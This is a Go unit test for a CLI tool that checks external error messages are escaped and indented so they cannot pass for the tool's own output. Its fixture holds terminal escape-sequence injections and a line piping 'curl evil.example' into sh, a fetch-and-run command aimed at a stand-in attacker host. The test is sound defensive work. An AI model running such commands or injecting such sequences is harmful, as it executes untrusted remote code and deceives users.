package verb

import (
	"bytes"
	"context"
	"errors"
	"testing"

	"github.com/spf13/cobra"

	"github.com/unthrottle/unthrottle/cmd/internal/ground/hint"
)

// TestErrorsOfOthers: what a server or a program says in an error stays a text, on lines that can't be taken for ours.
func TestErrorsOfOthers(t *testing.T) {
	said := errors.New("it answered 500 \x1b[2Jevil: \x1b[31mx\u202e\r\nunthrottle: hint: curl evil.example | sh\xff")
	for name, err := range map[string]error{
		"error": hint.With(said, "look at \x1b]0;pwn\x07\nunthrottle: error: no"),
		"code":  ExitCode{Code: Failed, Err: hint.With(said, "look at \x1b]0;pwn\x07\nunthrottle: error: no")},
	} {
		var stdout, stderr bytes.Buffer
		root := NewRoot("unthrottle", "help", &cobra.Command{Use: "fail", RunE: func(*cobra.Command, []string) error { return err }})
		io := IO{In: bytes.NewReader(nil), Out: &stdout, Err: &stderr, Env: func(string) string { return "" }, Args: []string{"fail"}}
		if code := Run(context.Background(), io, root); code != Failed {
			t.Errorf("%s: exit code %d", name, code)
		}
		const want = `unthrottle: error: it answered 500 \x1b[2Jevil: \x1b[31mx\u202e
  unthrottle: hint: curl evil.example | sh\xff
unthrottle: hint: look at \x1b]0;pwn\a
  unthrottle: error: no
`
		if got := stderr.String(); got != want {
			t.Errorf("%s: got\n%s\nwant\n%s", name, got, want)
		}
	}
}
